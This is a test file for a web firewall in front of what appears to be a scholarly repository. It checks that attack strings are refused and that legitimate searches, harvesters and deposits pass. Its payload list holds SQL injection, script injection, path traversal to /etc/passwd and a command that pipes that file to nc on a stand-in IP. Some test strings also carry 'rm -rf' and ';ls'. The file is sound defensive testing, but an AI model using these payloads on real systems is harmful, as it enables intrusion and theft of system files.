import { beforeAll, describe, expect, inject, it } from 'vitest'
import { type Asked, ask } from '../services/requests.ts'
import { minimalXml } from '../support/depositor.ts'

// Not where the acceptance tests, which run beside it, look for items.
const { url, adminToken } = inject('kura').tenants.hidamari as { url: string; adminToken: string }
const { host, port } = new URL(url)
const authorization = `Bearer ${adminToken}`
const send = (path: string, { headers = {}, ...rest }: Asked = {}) =>
  ask(Number(port), path, { headers: { host, ...headers }, ...rest })
const status = async (...request: Parameters<typeof send>) => (await send(...request)).status

const ATTACKS = [
  ['SQL', "1' OR '1'='1' UNION SELECT password FROM users--"],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['a way out of a folder', '../../../../etc/passwd'],
  ['a command', '; cat /etc/passwd | nc 192.0.2.1 4444'],
  ['PHP', "<?php system('id'); ?>"],
] as const

describe('the firewall', () => {
  it.each(ATTACKS)('refuses %s in an argument that has no use for it', async (_, attack) => {
    const argument = encodeURIComponent(attack)
    for (const path of [
      `/?page=${argument}`,
      `/items/1?version=${argument}`,
      `/oai?verb=Identify&x=${argument}`,
      `/api/v1/items?x=${argument}`,
    ])
      expect(await status(path), path).toBe(403)
  })

  it('refuses a way out of a folder in a path', async () => {
    // What leads out of the whole is no address for the firewall's server either.
    for (const path of [
      '/items/1/files/../../../../../etc/passwd',
      '/assets/..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/items/1/files/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
    ])
      expect([400, 403], path).toContain(await status(path))
  })

  it('refuses them in a form as well, as far as it reads', async () => {
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    const attack = encodeURIComponent(ATTACKS[1][1])
    expect(await status('/oai', { method: 'POST', headers, body: `verb=Identify&x=${attack}` })).toBe(403)
    // Oracle's reads 8 KiB of a body.
    const late = `verb=Identify&${`y=${'a'.repeat(50)}&`.repeat(200)}x=${attack}`
    expect(await status('/oai', { method: 'POST', headers, body: late })).toBe(200)
  })

  it('refuses methods that nobody here knows', async () => {
    for (const method of ['TRACK', 'PROPFIND']) expect(await status('/', { method })).toBe(403)
  })

  it('looks at an address as a whole: even words lead out of no folder', async () => {
    expect(await status('/search?q=..%2F..%2Fetc%2Fpasswd')).toBe(403)
  })

  it.each(ATTACKS.filter(([what]) => !what.includes('folder')))('lets readers search for %s', async (_, text) => {
    const words = encodeURIComponent(text)
    for (const path of ['/search', '/feed.atom', '/api/v1/search'])
      for (const name of ['q', 'subject', 'creator']) expect(await status(`${path}?${name}=${words}`), name).toBe(200)
  })

  it.each([
    '"機械学習" AND (水質 OR 河川) NOT 海洋',
    '井戸端会議 - "女性史"; 昭和20年代',
    'SELECT * FROM items WHERE 1=1 -- as an example of teaching',
    'on the use of <em> and <script> in HTML',
    '{"a": 1} && `rm -rf`',
    "l'œuvre d'Émile Zola: étude",
    'C:\\Windows\\system32\\cmd.exe',
  ])('lets readers search for %s', async (words) => {
    expect(await status(`/search?q=${encodeURIComponent(words)}&lang=en&sort=newest`)).toBe(200)
  })

  it('lets readers go on from what they searched for', async () => {
    const { headers } = await send('/search?q=%3Cscript%3E')
    // A browser names what the policy lets it: the page's whole address holds the words.
    expect(headers['referrer-policy']).toBe('strict-origin')
    expect(await status('/items/1', { headers: { referer: `${url}/` } })).toBe(200)
  })

  it.each([
    ['a harvester', '/oai?verb=ListRecords&metadataPrefix=jpcoar_2.0&from=2020-01-01', {}],
    ['a harvester by its identifier', '/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier=oai%3Ax.example%3A1', {}],
    ['a program that says nothing of itself', '/items/1', { accept: '' }],
    ['a link to a place before', '/?action=repository_uri&item_id=5&file_id=1&file_no=1', {}],
    [
      'a link to a place before',
      '/?action=pages_view_main&active_action=repository_view_main_item_detail&item_id=5',
      {},
    ],
    ['a citation manager', '/items/1', { accept: 'application/x-bibtex' }],
    ['a browser with a cookie', '/', { cookie: 'lang=ja' }],
    ['a page of results', `/search?q=&after=${Buffer.from('x'.repeat(1_500)).toString('base64url')}`, {}],
  ])('lets %s pass to %s', async (_, path, headers) => {
    expect(await status(path, { headers: headers as Record<string, string> })).not.toBe(403)
  })

  it('lets a harvester go on to the end', async () => {
    let [path, pages] = ['/oai?verb=ListIdentifiers&metadataPrefix=oai_dc', 0]
    for (; path !== ''; pages++) {
      const page = await send(path)
      expect(page.status, path).toBe(200)
      const [, token = ''] = /<resumptionToken[^>]*>([^<]+)</.exec(page.body.toString()) ?? []
      path = token && `/oai?verb=ListIdentifiers&resumptionToken=${encodeURIComponent(token)}`
    }
    expect(pages).toBeGreaterThan(0)
  })
})

describe('depositors', () => {
  let item = ''
  beforeAll(async () => {
    const { body } = await send('/api/v1/imports?source=firewall', {
      method: 'POST',
      headers: { authorization, 'content-type': 'application/xml' },
      body: minimalXml('SELECT title FROM items; or &lt;script> in repositories'),
    })
    item = `/items/${JSON.parse(body.toString()).item.number}`
  })

  it.each([
    ['report.pdf', 'application/pdf', 1_000],
    ['data.bin', 'application/octet-stream', 20 * 2 ** 20],
    ["O'Reilly & Söhne; select 1 (最終版).csv", 'text/csv', 10],
    ['index.php.txt', 'text/plain', 10],
  ])('send %s as %s', async (name, type, size) => {
    const path = `${item}/files/${encodeURIComponent(name)}`
    const headers = { authorization, 'content-type': type, 'if-none-match': '*' }
    const put = await status(`/api/v1${path}`, { method: 'PUT', headers, body: Buffer.alloc(size, 'x') })
    expect(put).toBe(201)
    expect((await send(path)).body).toHaveLength(size)
  })

  it('change a record by a merge patch', async () => {
    const { headers } = await send(`/api/v1${item}`, { headers: { authorization } })
    const patch = { method: 'PATCH', body: JSON.stringify({ record: { titles: [{ value: '<script> and SQL' }] } }) }
    const said = { authorization, 'content-type': 'application/merge-patch+json', 'if-match': headers.etag as string }
    expect(await status(`/api/v1${item}`, { ...patch, headers: said })).not.toBe(403)
  })

  it('send records of many MiB about SQL and markup', async () => {
    const line = (n: number) => {
      const record = { titles: [{ value: `${ATTACKS.map(([, text]) => text).join(' ')} ${n}` }] }
      return JSON.stringify({ source: `firewall-${n}`, record })
    }
    const body = Array.from({ length: 5_000 }, (_, n) => line(n)).join('\n')
    const headers = { authorization, 'content-type': 'application/x-ndjson' }
    expect(body.length).toBeGreaterThan(2 ** 20)
    const answer = await send('/api/v1/imports?mode=check', { method: 'POST', headers, body })
    expect(answer.status).toBe(200)
  })

  it.each(['../shelf 3/box.xml', 'C:\\papers\\a;b.xml', 'select/union/from.xml', 'oai:x.example:1'])(
    'call a record %s',
    async (source) => {
      const headers = { authorization, 'content-type': 'application/xml' }
      const path = `/api/v1/imports?mode=check&source=${encodeURIComponent(source)}`
      expect(await status(path, { method: 'POST', headers, body: minimalXml('Named') })).toBe(200)
    },
  )

  it('tell where a record was before', async () => {
    const before = encodeURIComponent('https://old.example/?action=repository_uri&item_id=5&from=../a.php;ls')
    const headers = { authorization, 'content-type': 'application/xml' }
    const path = `/api/v1/imports?mode=check&source=moved&formerAddresses=${before}`
    expect(await status(path, { method: 'POST', headers, body: minimalXml('Moved') })).not.toBe(403)
  })
})
